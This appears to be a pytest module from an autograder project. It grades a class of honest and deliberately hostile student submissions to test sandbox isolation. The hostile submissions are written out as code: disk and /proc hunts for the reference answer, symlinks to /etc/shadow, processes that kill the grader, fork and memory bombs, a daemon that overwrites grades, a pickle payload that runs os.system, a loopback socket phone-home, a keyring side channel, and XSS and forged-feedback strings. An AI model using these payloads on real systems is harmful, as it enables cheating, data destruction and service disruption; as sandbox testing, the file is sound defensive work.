"""The hostile corpus: one class of honest and hostile students graded through the real CLI.

Every hostile submission is the reference (so its expected grade is exact) with hostile
code appended or prepended. The class is graded once (grading costs seconds of warm-up),
then each test asserts one student's grade per item, what the run left behind (nothing),
and that the honest students' rows are byte-identical to a run without the hostile ones.

The class is graded on the rung the host gives, or the one ATTENTION_GRADER_SANDBOX forces
(tests/unprivileged.py runs this module as an ordinary user: user namespaces, landlock,
degraded).
Every rung keeps every expectation, but one: degraded mode loses secrecy, so there, and
only there, a student who reads the reference from the disk may succeed.
"""

from __future__ import annotations

import ast
import csv
import errno
import functools
import hashlib
import json
import os
import secrets
import select
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml
from markdown_support import rendered, shown
from process_support import descendants, runs_adopted

from grader.assignment.bundle import load_bundle
from grader.assignment.config import DEFAULT_ASSIGNMENT, Assignment, parse_assignment, read_yaml
from grader.frames import MAX_FRAME
from grader.records.results import SubmissionResult
from grader.render.lms_columns import html_comment
from grader.reporters.moodle import feedback_lines
from grader.reporters.prairielearn import results as prairielearn
from grader.runners.inprocess import InProcessRunner
from grader.runners.serve import CELL_ERRORS
from grader.sandbox.ladder import DEGRADED, probe
from grader.sandbox.paths import PROJECT_ROOT
from grader.sandbox.zygote import uid_block
from grader.submissions.answer_cells import MAX_ANSWER_CHARS
from grader.submissions.load import Cell, SourceFile
from grader.wire import ERROR_CHARS
from grader.worker.score import run_item

# The expected grades cover the torch notebook too.
pytest.importorskip("torch")

pytestmark = pytest.mark.timeout(300)

SEED = 7
ITEM_SECONDS = 3
LOAD_SECONDS = 5
# The name (comm, at most 15 bytes) every hostile leftover process gives itself: one per test run, as
# leftovers are looked for machine-wide and another run's corpus (a parallel tox env, a container) may be alive.
TOKEN = f"hx-{secrets.token_hex(4)}"
NUMPY = (PROJECT_ROOT / "reference" / "attention_numpy.py").read_text(encoding="utf-8")
TORCH = (PROJECT_ROOT / "reference" / "attention_torch.py").read_text(encoding="utf-8")

# ---- the submissions -----------------------------------------------------------------------
# Hostile code refers to the run's paths through @@NAME@@ placeholders, filled in per run.

NAN_SOFTMAX = """
def softmax(x, axis=-1):
    return np.full(np.shape(x), np.nan)
"""

UNSTABLE_SOFTMAX = """
def softmax(x, axis=-1):
    e = np.exp(x)
    return e / e.sum(axis=axis, keepdims=True)
"""

NAN_MHA = """
_ForwardOfReference = MultiHeadAttention.forward

def _nan_forward(self, *args, **kwargs):
    out, weights = _ForwardOfReference(self, *args, **kwargs)
    return torch.full_like(out, float("nan")), weights

MultiHeadAttention.forward = _nan_forward
"""

MONKEYPATCH = """
import numpy as _np
import numpy.testing as _npt
import torch as _torch

def _patch():
    _np.allclose = lambda *a, **k: True
    _np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(a, b).shape, bool)
    _np.array_equal = lambda *a, **k: True
    _np.testing.assert_allclose = lambda *a, **k: None
    _npt.assert_array_equal = lambda *a, **k: None
    _npt.assert_array_almost_equal = lambda *a, **k: None
    _torch.allclose = lambda *a, **k: True
    _torch.equal = lambda *a, **k: True
    _torch.testing.assert_close = lambda *a, **k: None

_patch()

def softmax(x, axis=-1):
    _patch()
    return _np.full(_np.shape(x), _np.nan)
"""

MONKEYPATCH_TORCH = """
import torch as _torch
_torch.allclose = lambda *a, **k: True
_torch.equal = lambda *a, **k: True
_torch.testing.assert_close = lambda *a, **k: None
"""

IMPORT_REFERENCE = """
import sys as _sys
_sys.path[:0] = ["@@PROJECT@@", "@@PROJECT@@/reference"]
try:
    from reference.attention_numpy import softmax
    print("stole softmax from reference")
except BaseException as exc:
    print("import reference:", type(exc).__name__)
    try:
        import grader.checks.numpy_items as _checks
        softmax = _checks.ref.softmax
        print("stole softmax from the grader")
    except BaseException as exc:
        print("import grader:", type(exc).__name__)
        def softmax(x, axis=-1):
            return np.full(np.shape(x), np.nan)
"""

WALK_DISK = """
import os as _os, time as _time

def _is_reference(path):
    try:
        with open(path, encoding="utf-8", errors="replace") as handle:
            text = handle.read(400000)
    except OSError:
        return False
    return "def softmax" in text and "def relative_shift_matrix" in text

def _hunt():
    places = ["@@PROJECT@@/reference/attention_numpy.py", "@@CLASS@@/honest_ref/attention_numpy.py"]
    for pid in [str(_os.getppid()), "1", *sorted(p for p in _os.listdir("/proc") if p.isdigit())]:
        for link in ("cwd", "root"):
            base = f"/proc/{pid}/{link}"
            places += [f"{base}/reference/attention_numpy.py",
                       f"{base}@@PROJECT@@/reference/attention_numpy.py"]
    for place in places:
        if _is_reference(place):
            return place
    deadline = _time.monotonic() + 1.5
    for top in ["/work", "/home", "/root", "/srv", "/opt", "/mnt", "/tmp", "/var", "/"]:
        for folder, subfolders, files in _os.walk(top):
            if folder in ("/proc", "/sys", "/dev") or _time.monotonic() > deadline:
                subfolders[:] = []
                continue
            for name in files:
                path = _os.path.join(folder, name)
                if name.startswith("attention_numpy") and _is_reference(path):
                    return path
    return None

_found = _hunt()
print("found:", _found)
if _found:
    _stolen = {}
    exec(open(_found).read(), _stolen)
    softmax = _stolen["softmax"]
else:
    def softmax(x, axis=-1):
        return np.full(np.shape(x), np.nan)
"""

EXITS_IN_CALLS = """
import os as _os, sys as _sys

def softmax(x, axis=-1):
    _sys.exit(1)

def causal_mask(seq_len):
    raise SystemExit("bye")

def padding_mask(lengths, max_len):
    _os._exit(0)
"""

KILL_PARENT = """
import os as _os, signal as _signal
_softmax_of_reference = softmax

def softmax(x, axis=-1):
    for attempt in (lambda: _os.kill(_os.getppid(), _signal.SIGKILL),
                    lambda: _os.killpg(_os.getpgrp(), _signal.SIGKILL),
                    lambda: _os.kill(0, _signal.SIGKILL),
                    lambda: _os.kill(-1, _signal.SIGKILL),
                    lambda: _os.kill(-1, _signal.SIGTERM)):
        try:
            attempt()
        except OSError:
            pass
    return _softmax_of_reference(x, axis)
"""

KILL_GRADER = """
import os as _os, signal as _signal
_softmax_of_reference = softmax

def softmax(x, axis=-1):
    for pid in _os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                cmdline = handle.read()
        except OSError:
            continue
        if b"grader" in cmdline or b"pytest" in cmdline or b"python" in cmdline:
            for sig in (_signal.SIGKILL, _signal.SIGSTOP):
                try:
                    _os.kill(int(pid), sig)
                except OSError:
                    pass
    return _softmax_of_reference(x, axis)
"""

DAEMON = """
import ctypes as _ctypes, os as _os, signal as _signal, time as _time
_softmax_of_reference = softmax

def _daemon():
    if _os.fork() != 0:
        _os.wait()
        return
    try:
        _os.setsid()  # refused by the filter: an attacker goes on without
    except OSError:
        pass
    if _os.fork() != 0:
        _os._exit(0)
    _ctypes.CDLL(None).prctl(15, b"@@TOKEN@@", 0, 0, 0)
    for sig in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):
        _signal.signal(sig, _signal.SIG_IGN)
    _time.sleep(2)
    for target in ("@@OUT@@/grades.csv", "@@CLASS@@/honest_ref/attention_numpy.py"):
        try:
            with open(target, "w") as handle:
                handle.write("pwned")
        except OSError:
            pass
    _time.sleep(3600)
    _os._exit(0)

_daemon()
_calls = []

def softmax(x, axis=-1):
    if not _calls:  # one more, started inside an item
        _calls.append(_daemon())
    return _softmax_of_reference(x, axis)
"""

PICKLE_BOMB = """
import os as _os

class _Bomb:
    def __reduce__(self):
        return (_os.system, ("touch @@MARKER@@",))

    def __array__(self, *args, **kwargs):
        _os.system("touch @@MARKER@@")
        return np.zeros(1)

def softmax(x, axis=-1):
    return _Bomb()

def causal_mask(seq_len):
    return {"mask": _Bomb(), "rows": [_Bomb()]}
"""

LIAR = """
class _Liar(np.ndarray):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __bool__(self):
        return True

def softmax(x, axis=-1):
    return np.full(np.shape(x), np.nan).view(_Liar)
"""

INFINITE_LOOP = """
import signal as _signal

def softmax(x, axis=-1):
    for sig in (_signal.SIGALRM, _signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP):
        _signal.signal(sig, _signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""

MEMORY_BOMB = """
def softmax(x, axis=-1):
    hog = np.ones((1024, 1024, 1024))  # 8 GiB
    return hog[: np.shape(x)[0]]
"""

FORK_SWARM = """
import os as _os

def softmax(x, axis=-1):
    while True:
        try:
            _os.fork()
        except OSError:
            pass
"""

LOOPBACK = """
import socket as _socket
_softmax_of_reference = softmax

def _phone_home(payload):
    try:
        with _socket.create_connection(("127.0.0.1", @@PORT@@), timeout=0.5) as connection:
            connection.sendall(payload)
    except OSError as exc:
        print("no network:", type(exc).__name__)

_phone_home(b"loaded")

def softmax(x, axis=-1):
    out = _softmax_of_reference(x, axis)
    _phone_home(out.tobytes())
    return out
"""

OVERWRITE_CLASSMATES = """
import os as _os

def _vandalise():
    targets = []
    for top in ("@@CLASS@@", "@@OUT@@", "."):
        for folder, _, files in _os.walk(top):
            targets += [_os.path.join(folder, name) for name in files]
    for classmate in _os.listdir(".."):  # where a naive grader runs each student: side by side
        targets += [f"../{classmate}/attention_numpy.py", f"../{classmate}/attention_torch.py"]
    targets += ["@@CLASS@@/honest_ref/attention_numpy.py", "@@OUT@@/grades.csv"]
    for path in targets:
        try:
            with open(path, "w") as handle:
                handle.write("def softmax(x, axis=-1):\\n    raise RuntimeError('vandalised')\\n")
        except OSError:
            pass
    for path in ("@@CLASS@@/honest_ref/attention_numpy.py", "@@CLASS@@/honest_ref",
                 "@@OUT@@/grades.csv"):
        for attempt in (lambda: _os.chmod(path, 0), lambda: _os.unlink(path),
                        lambda: _os.rename(path, path + "~")):
            try:
                attempt()
            except OSError:
                pass

_vandalise()
"""

PRINT_FLOOD = """
import sys as _sys
_softmax_of_reference = softmax
_flooded = []

def softmax(x, axis=-1):
    if not _flooded:
        _flooded.append(True)
        _sys.stdout.write("x" * (50 << 20))
        _sys.stdout.flush()
    return _softmax_of_reference(x, axis)
"""

TINY_INPUTS = """
_softmax_of_reference = softmax

def softmax(x, axis=-1):
    if np.size(x) <= 4:
        return _softmax_of_reference(x, axis)
    return np.full(np.shape(x), np.nan)
"""

SOCKET_ABUSE = """
import os as _os, stat as _stat, struct as _struct, time as _time

def _channel():
    for fd in range(3, 256):
        try:
            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass

def softmax(x, axis=-1):
    _os.close(_channel())
    return np.zeros(np.shape(x))

def causal_mask(seq_len):
    _os.write(_channel(), b"\\xff\\xfe not a frame " * 64)
    _time.sleep(10)

def padding_mask(lengths, max_len):
    _os.write(_channel(), _struct.pack(">I", @@MAX_FRAME@@ + 1))
    _time.sleep(10)
"""

REPLY_FLOOD = """
import os as _os, stat as _stat, struct as _struct

def softmax(x, axis=-1):
    fd = next(fd for fd in range(3, 256) if _is_socket(fd))
    frame = b'{"value": null}'
    _os.write(fd, (_struct.pack(">I", len(frame)) + frame) * 100000)
    return np.zeros(np.shape(x))

def _is_socket(fd):
    try:
        return _stat.S_ISSOCK(_os.fstat(fd).st_mode)
    except OSError:
        return False
"""

THREADS_LEFT = """
import threading as _threading, time as _time
_softmax_of_reference = softmax
_started = []
_struck = _threading.Event()

def _saboteur():
    globals()["causal_mask"] = lambda seq_len: None
    _struck.set()
    while True:
        print("still here")
        _time.sleep(0.05)

def softmax(x, axis=-1):
    if not _started:
        _started.append(_threading.Thread(target=_saboteur, daemon=True))
        _started[0].start()
        _struck.wait()  # the saboteur has struck before softmax's item ends, however loaded the host
    return _softmax_of_reference(x, axis)
"""

SIGNAL_HANDLERS = """
import os as _os, signal as _signal
_softmax_of_reference = softmax

def _strike(signum, frame):
    # Harmless while softmax's item lasts; fatal if the timer outlives it and catches the
    # sandbox answering a call to another function.
    while frame is not None:
        message = frame.f_locals.get("message")
        if frame.f_code.co_name == "handle" and isinstance(message, dict):
            if message.get("name") not in (None, "softmax"):
                _os._exit(9)
            break
        frame = frame.f_back
    _signal.setitimer(_signal.ITIMER_REAL, 0.001)

def softmax(x, axis=-1):
    _signal.signal(_signal.SIGALRM, _strike)
    _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
    _signal.setitimer(_signal.ITIMER_REAL, 0.001)
    return _softmax_of_reference(x, axis)
"""

# A correct submission whose import starts a process that outlives it: a double fork, and a
# grandchild (named, so a leftover is found) that polls the disk for a minute. The first
# child leaves by ``sys.exit``, as daemon recipes do, which a cell survives: that copy of
# the sandbox returns to the loop that answers the grader, where it must not answer.
BACKGROUND = """
import ctypes as _ctypes, os as _os, sys as _sys, time as _time

def _background():
    if _os.fork() != 0:
        return
    try:
        _os.setsid()  # refused by the filter: an attacker goes on without
    except OSError:
        pass
    if _os.fork() == 0:
        _ctypes.CDLL(None).prctl(15, b"@@TOKEN@@", 0, 0, 0)
        _deadline = _time.monotonic() + 60
        while _time.monotonic() < _deadline:
            _os.path.exists("/tmp/flag")
            _time.sleep(0.01)
        _os._exit(0)
    _sys.exit(0)

_background()
"""

# Installed modules that no sandbox parent imported: a correct student may import them.
UNCOMMON_IMPORTS = """
import numpy.testing as _npt
import numpy.polynomial as _poly
_npt.assert_allclose(softmax(np.zeros(3)), np.full(3, 1 / 3))
"""
UNCOMMON_IMPORTS_TORCH = """
import torch.nn.init as _init
import torch.utils.data as _data
"""

# The secrets themselves, where this run keeps them: the bundle's reference and a classmate.
# Unreadable on every rung but an ordinary user's degraded one (a root grader's sandboxes run
# as a uid of their own there, kept out by file permissions).
READ_SECRETS = """
def _steal():
    for place in ("@@PRIVATE@@/reference/attention_numpy.py", "@@CLASS@@/honest_ref/attention_numpy.py"):
        try:
            stolen = {}
            exec(open(place).read(), stolen)
            print("read", place)
            return stolen["softmax"]
        except Exception as exc:
            print("could not read", place, type(exc).__name__)
    return None

softmax = _steal() or (lambda x, axis=-1: np.full(np.shape(x), np.nan))
"""

# A well-formed frame that answers no pending request (number 0 never is): skipped, never
# read as softmax's answer, which follows it.
STALE_REPLY = """
import json as _json, os as _os, stat as _stat, struct as _struct
_softmax_of_reference = softmax

def softmax(x, axis=-1):
    fd = next(fd for fd in range(3, 256) if _is_socket(fd))
    body = _json.dumps([0, {"value": [{"$tuple": []}]}]).encode()
    _os.write(fd, _struct.pack(">I", len(body)) + body)
    return _softmax_of_reference(x, axis)

def _is_socket(fd):
    try:
        return _stat.S_ISSOCK(_os.fstat(fd).st_mode)
    except OSError:
        return False
"""

BACKGROUND_RUNS = 20  # the crossing it caused showed in 3 runs of 10 as root, 8 of 8 without namespaces

# One well-formed frame of ``[]`` just under the frame limit, its header first and its body
# streamed (building it whole would take longer than the item): before the reply limit, a
# worker read and parsed it (6.5 GB, 25 times its length).
REPLY_BOMB = """
import contextlib as _contextlib, os as _os, stat as _stat, struct as _struct

def softmax(x, axis=-1):
    chunk = b"[]," * (1 << 20)
    count = (@@MAX_FRAME@@ - 8) // len(chunk)
    for fd in range(3, 256):
        with _contextlib.suppress(OSError):
            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                _os.write(fd, _struct.pack(">I", 8 + count * len(chunk)) + b"[1,[")
                for _ in range(count):
                    _os.write(fd, chunk)
                _os.write(fd, b"[]]]")
    return np.zeros(np.shape(x))
"""
RAISING_CELLS = 5_000  # 64,000 in the issue (about 200 us each): these load in about 1 s of LOAD_SECONDS


def raising_notebook(code: str, cells: int) -> str:
    """An .ipynb of ``code`` in one cell, then ``cells`` cells that each raise 2,000 quotes
    (which JSON doubles at every crossing)."""
    raising = {"cell_type": "code", "source": "raise ValueError('\"' * 1999)"}
    return json.dumps({"cells": [{"cell_type": "code", "source": code}] + [raising] * cells,
                       "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


@dataclass(frozen=True)
class Link:
    target: str  # filled as the code is (@@PRIVATE@@...); a relative one stays relative


@dataclass(frozen=True)
class Fifo:
    pass


@dataclass
class Student:
    numpy: str | None  # the attention_numpy.py it submits (None: not submitted)
    torch: str | None = None
    # Item -> points when not full marks; "inprocess" items are graded in this process on
    # ``control`` (the same mistake without the hostility) to get the exact expectation.
    zero: tuple[str, ...] = ()
    control: dict[str, str] = field(default_factory=dict)  # item -> control code (appended)
    # Written after the notebooks, by name in the student's folder; "" names the folder itself.
    files: dict[str, str | Link | Fifo] = field(default_factory=dict)
    numpy_name: str = "attention_numpy.py"


# ---- the trusted side reads the files: links, special files, IPython's rewriting --------------


def ipynb(*cells: str) -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": cell}
        for cell in cells]})


# A first line indented sends the cell to IPython's transformer, which tokenised the whole cell
# again for each escape: this cell held the worker that read it for some 20 s.
IPYTHON_BOMB = "    # setup\n" + "".join(f"!echo {n} {'x' * 48}\n" for n in range(450))
REFUSED_LINK = "is a symbolic link: not read; submit the file itself"
REFUSED_SPECIAL = "is not a plain file"

HOSTILE_FILES = {
    "link_reference": Student(None, files={
        "attention_numpy.py": Link("@@PRIVATE@@/reference/attention_numpy.py"),
        "attention_torch.py": Link("@@PRIVATE@@/reference/attention_torch.py")}),
    "link_secrets": Student(None, files={"attention_numpy.py": Link("/etc/shadow"),
                                         "attention_torch.py": Link("@@PRIVATE@@/checks/masks.py")}),
    "link_classmate": Student(None, TORCH, files={"attention_numpy.py": Link("../honest_ref/attention_numpy.py")}),
    "link_sparse": Student(None, TORCH, files={"attention_numpy.py": Link("@@SPARSE@@")}),
    "fifo_and_kmsg": Student(None, files={"attention_numpy.py": Fifo(), "attention_torch.py": Link("/proc/kmsg")}),
    "link_folder": Student(None, files={"": Link("honest_ref")}),
    "ipython_bomb": Student(ipynb(IPYTHON_BOMB, NUMPY), TORCH, numpy_name="attention_numpy.ipynb"),
    # Not hostile: the magics a notebook holds, rewritten by IPython in the sandbox, on every rung.
    "ipython_magics": Student(ipynb("%matplotlib inline\n!pip install numpy", "  # indented\n  import os", NUMPY),
                              TORCH, numpy_name="attention_numpy.ipynb"),
}


_BUNDLE = load_bundle(DEFAULT_ASSIGNMENT)
_ITEMS = _BUNDLE.assignment
NUMPY_ITEMS = tuple(item.name for item in _ITEMS.items_of("attention_numpy"))
TORCH_ITEMS = tuple(item.name for item in _ITEMS.items_of("attention_torch"))


def appended(code: str, base: str = NUMPY) -> str:
    return f"{base}\n\n# ---- hostile ----\n{code}"


HONEST = {
    "honest_ref": Student(NUMPY, TORCH),
    "honest_partial": Student(
        appended(UNSTABLE_SOFTMAX),
        appended(
            (DEFAULT_ASSIGNMENT.parent / "catalogue/mutants/mha_no_scale.py").read_text(), TORCH
        ),
    ),
}

HOSTILE_BOUNDS = {
    # Graded from the notebook, which comes before the .py (the reference alone: the same grade).
    "cell_error_flood": Student(NUMPY, TORCH, files={"attention_numpy.ipynb": raising_notebook(NUMPY, RAISING_CELLS)}),
    "reply_bomb": Student(appended(REPLY_BOMB), zero=("softmax",)),
}

# ---- channels between students, and the kernel surface (#43, finding 5) -------------------
# A sender stores the reference's softmax in its uid's keyring, which outlives its sandbox;
# a later receiver, with no softmax of its own, takes it from there. Three senders first in
# the class's order, so that each of the two workers' zygotes grades one before a receiver.
KEYRING_SENDER = """
import ctypes as _ctypes, os as _os
_libc = _ctypes.CDLL(None, use_errno=True)

def _send():
    number = {"x86_64": 248, "aarch64": 217}[_os.uname().machine]  # add_key
    data = @@SOFTMAX@@.encode()
    if _libc.syscall(_ctypes.c_long(number), b"user", b"hx-answers", data,
                     _ctypes.c_size_t(len(data)), _ctypes.c_long(-4)) < 0:  # the user keyring
        print("add_key: errno", _ctypes.get_errno())
    else:
        print("add_key: stored")

_send()
"""

KEYRING_RECEIVER = """
import ctypes as _ctypes, os as _os
_libc = _ctypes.CDLL(None, use_errno=True)

def _receive():
    number = {"x86_64": 250, "aarch64": 219}[_os.uname().machine]  # keyctl
    key = _libc.syscall(_ctypes.c_long(number), _ctypes.c_long(10), _ctypes.c_long(-4), b"user",
                        b"hx-answers", _ctypes.c_long(0))  # KEYCTL_SEARCH
    if key < 0:
        print("keyctl search: errno", _ctypes.get_errno())
        return None
    buffer = _ctypes.create_string_buffer(32768)
    size = _libc.syscall(_ctypes.c_long(number), _ctypes.c_long(11), _ctypes.c_long(key), buffer,
                         _ctypes.c_size_t(32768))  # KEYCTL_READ
    return buffer.raw[:size].decode() if size > 0 else None

_answer = _receive()
if _answer:
    exec(_answer, globals())
    print("received softmax")
else:
    def softmax(x, axis=-1):
        return np.full(np.shape(x), np.nan)
"""

UNSHARE_USER = """
import ctypes as _ctypes
_libc = _ctypes.CDLL(None, use_errno=True)
if _libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
    print("unshare: a user namespace of its own")
else:
    print("unshare: errno", _ctypes.get_errno())
"""

# 63 spinning processes, each in a session of its own (the kernel's autogroups gave each a
# share of the CPU: honest classmates went from 0.22 s to 14 s), for 3 s at its import and
# 1.5 s at the start of each of its first three items, which wait meanwhile: about 8 s in all.
# First in the class's order, so the honest class, graded in the other run at the same time,
# meets it. One spinner forks the others, and all lower their priority and end on their own:
# nothing changes for classmates (shares go per session, or per cgroup), but the hog's own
# calls stay quick, so its grade is exact on every rung. Here: its grade, and its classmates'
# rows byte-identical to the run without it; the share of the CPU it takes, as CPU seconds
# (not wall time, which the machine's other load moves), in tests/sandbox/test_sandbox_cpushare.py.
CPU_HOG = """
import os as _os, time as _time
_spun = set()

def _spin(name, seconds):
    if name in _spun:
        return
    _spun.add(name)
    end = _time.monotonic() + seconds
    if _os.fork() == 0:
        _os.nice(19)
        for _ in range(62):
            try:
                if _time.monotonic() > end or _os.fork() == 0:
                    break  # a spinner forks no more
            except OSError:
                break
        try:
            _os.setsid()  # refused by the filter: an attacker goes on without
        except OSError:
            pass
        while _time.monotonic() < end:
            pass
        _os._exit(0)
    _time.sleep(seconds)

def _hogging(function):
    def hog(*args, **kwargs):
        _spin(function.__name__, 1.5)
        return function(*args, **kwargs)
    return hog

softmax, causal_mask, padding_mask = map(_hogging, (softmax, causal_mask, padding_mask))
_spin("import", 3)
"""


def _source_of(name: str, module: str) -> str:
    """The text of function ``name`` in ``module``'s source."""
    tree = ast.parse(module)
    node = next(n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name == name)
    segment = ast.get_source_segment(module, node)
    assert segment is not None
    return segment


HOSTILE_CHANNELS = {
    **{f"a_keyring_sender_{n}": Student(appended(KEYRING_SENDER.replace(
        "@@SOFTMAX@@", repr(_source_of("softmax", NUMPY))))) for n in (1, 2, 3)},
    **{f"keyring_receiver_{n}": Student(appended(KEYRING_RECEIVER), control={"softmax": NAN_SOFTMAX})
       for n in (1, 2)},
    "unshare_user": Student(appended(UNSHARE_USER)),
    "a_cpu_hog": Student(appended(CPU_HOG)),
}

# ---- what a student's text does in our outputs (#43, finding 6) ----------------------------
# An exception's text and printed lines that would forge a heading, a link and HTML in the
# student's own feedback; the row, and every other, stays as graded.
FORGED = "bad\n# Score: 155 / 155\n[full marks](http://evil.example) <img src=x onerror=alert(1)>"
FORGED_FEEDBACK = f"""
def softmax(x, axis=-1):
    print({FORGED!r})
    raise ValueError({FORGED!r})
"""

# A module of 500 parameters named at length (#53): the message that lists them is capped where
# it is made, as raised errors are; the student gets what the same code gets in this process.
MANY_NAMES = """
_init_of_reference = MultiHeadAttention.__init__

def _init_with_names(self, *args, **kwargs):
    _init_of_reference(self, *args, **kwargs)
    for n in range(500):
        self.register_parameter(f"{'named_at_length_' * 25}{n}", torch.nn.Parameter(torch.zeros(1)))

MultiHeadAttention.__init__ = _init_with_names
"""

HOSTILE_OUTPUTS = {
    "forged_feedback": Student(appended(FORGED_FEEDBACK), control={"softmax": FORGED_FEEDBACK}),
    "many_names": Student(NUMPY, appended(MANY_NAMES, TORCH), control={"MultiHeadAttention": MANY_NAMES}),
}

# ---- written answers: text a person reads, never run, bounded --------------------------------

# An answer of some 100 KB of markup and a spreadsheet formula, the same answer cell twice, and a
# cell left as released: the items keep full marks, the answer is cut and shown as text.
WRITTEN_FORGED = '<script>alert(1)</script> [full marks](http://evil.example) =HYPERLINK("http://evil")'
WRITTEN_ANSWERS = ("# %% [markdown]\n# answer: quadratic_cost\n"
                   + "".join(f"# {WRITTEN_FORGED} {n}\n" for n in range(1000))
                   + "# %% [markdown]\n# answer: quadratic_cost\n# the same answer again\n"
                   + "# %% [markdown]\n# answer: luong_compare\n# YOUR ANSWER HERE\n")
HOSTILE_WRITTEN = {"written_answers": Student(appended(WRITTEN_ANSWERS), TORCH)}

HOSTILE = {
    "control_nan": Student(appended(NAN_SOFTMAX), control={"softmax": NAN_SOFTMAX}),
    "monkeypatch": Student(
        appended(MONKEYPATCH),
        appended(MONKEYPATCH_TORCH + NAN_MHA, TORCH),
        control={"softmax": NAN_SOFTMAX, "MultiHeadAttention": NAN_MHA},
    ),
    "import_reference": Student(appended(IMPORT_REFERENCE), control={"softmax": NAN_SOFTMAX}),
    "walk_disk": Student(appended(WALK_DISK), control={"softmax": NAN_SOFTMAX}),
    "exit_at_import": Student(appended("import sys\nsys.exit(3)\n")),
    "os_exit_at_import": Student(appended("import os\nos._exit(0)\n"), zero=NUMPY_ITEMS),
    # A .py runs statement by statement, as a notebook runs its cells: the exit costs only itself.
    "system_exit_first": Student("raise SystemExit('before anything')\n" + NUMPY),
    "exits_in_calls": Student(
        appended(EXITS_IN_CALLS), zero=("softmax", "causal_mask", "padding_mask")
    ),
    "kill_parent": Student(appended(KILL_PARENT)),
    "kill_grader": Student(appended(KILL_GRADER)),
    "daemon": Student(appended(DAEMON)),
    "pickle_bomb": Student(appended(PICKLE_BOMB), zero=("softmax", "causal_mask")),
    "liar_array": Student(appended(LIAR), zero=("softmax",)),
    "infinite_loop": Student(appended(INFINITE_LOOP), zero=("softmax",)),
    "sleep_at_import": Student(appended("import time\ntime.sleep(3600)\n"), zero=NUMPY_ITEMS),
    "memory_bomb": Student(appended(MEMORY_BOMB), zero=("softmax",)),
    "fork_swarm": Student(appended(FORK_SWARM), zero=("softmax",)),
    "loopback": Student(appended(LOOPBACK)),
    "overwrite_classmates": Student(appended(OVERWRITE_CLASSMATES)),
    "print_flood": Student(appended(PRINT_FLOOD)),
    "tiny_inputs": Student(appended(TINY_INPUTS), control={"softmax": TINY_INPUTS}),
    "socket_abuse": Student(
        appended(SOCKET_ABUSE), zero=("softmax", "causal_mask", "padding_mask")
    ),
    "reply_flood": Student(appended(REPLY_FLOOD), zero=("softmax",)),
    "threads_left": Student(appended(THREADS_LEFT)),
    "signal_handlers": Student(appended(SIGNAL_HANDLERS)),
    "stale_reply": Student(appended(STALE_REPLY)),
    "read_secrets": Student(appended(READ_SECRETS), control={"softmax": NAN_SOFTMAX}),
    "uncommon_imports": Student(appended(UNCOMMON_IMPORTS), appended(UNCOMMON_IMPORTS_TORCH, TORCH)),
    **{f"background_{n:02}": Student(BACKGROUND + NUMPY, BACKGROUND + TORCH) for n in range(BACKGROUND_RUNS)},
    **HOSTILE_BOUNDS,
    **HOSTILE_CHANNELS,
    **HOSTILE_FILES,
    **HOSTILE_OUTPUTS,
    **HOSTILE_WRITTEN,
}


# ---- the runs -----------------------------------------------------------------------------


@dataclass
class Run:
    out: Path
    log: str  # what the CLI printed
    seconds: float
    lines: dict[str, str]  # student -> its grades.csv line, as bytes on disk
    grades: dict[str, dict[str, float]]  # student -> item -> points
    results: dict[str, Any]  # student -> its results.json entry
    run: dict[str, Any]  # results.json's "run"
    leftovers: list[str]  # hostile processes alive right after the run
    strays: list[tuple[int, str]] = field(default_factory=list)  # processes of the runs alive after both (descendants)


@dataclass
class Corpus:
    assignment: Assignment
    class_dir: Path
    hostile: Run
    honest: Run
    listener_pending: bool
    class_digest_before: str
    class_digest_after: str
    marker: Path


def fill(code: str, paths: dict[str, str]) -> str:
    for key, value in paths.items():
        code = code.replace(f"@@{key}@@", value)
    return code


def write_class(class_dir: Path, students: dict[str, Student], paths: dict[str, str]) -> None:
    for name, student in students.items():
        folder = class_dir / name
        if isinstance(student.files.get(""), Link):
            class_dir.mkdir(parents=True, exist_ok=True)
            folder.symlink_to(fill(student.files[""].target, paths), target_is_directory=True)
            continue
        folder.mkdir(parents=True)
        if student.numpy is not None:
            (folder / student.numpy_name).write_text(fill(student.numpy, paths), encoding="utf-8")
        if student.torch is not None:
            (folder / "attention_torch.py").write_text(fill(student.torch, paths), encoding="utf-8")
        for file, content in student.files.items():
            if isinstance(content, Link):
                (folder / file).symlink_to(fill(content.target, paths))
            elif isinstance(content, Fifo):
                os.mkfifo(folder / file)
            else:
                (folder / file).write_text(fill(content, paths), encoding="utf-8")


def digest(folder: Path) -> str:
    """The class folder's names, modes, contents and links' targets; a link is never followed."""
    h = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        h.update(str(path.relative_to(folder)).encode())
        mode = path.lstat().st_mode
        h.update(oct(mode).encode())
        if stat.S_ISLNK(mode):
            h.update(os.readlink(path).encode())
        elif stat.S_ISREG(mode):
            h.update(path.read_bytes())
    return h.hexdigest()


def hostile_leftovers() -> list[str]:
    """Live processes that gave themselves the corpus's name (the daemons do)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            comm = Path(f"/proc/{entry}/comm").read_text().strip()
            status = Path(f"/proc/{entry}/status").read_text()
        except OSError:
            continue
        state = [line for line in status.splitlines() if line.startswith("State:")][0].split()[1]
        if comm.startswith(TOKEN[:15]) and state not in "ZX":
            found.append(f"{entry} {comm} {state}")
    return found


def start(class_dir: Path, out: Path, assignment: Path, *options: str,
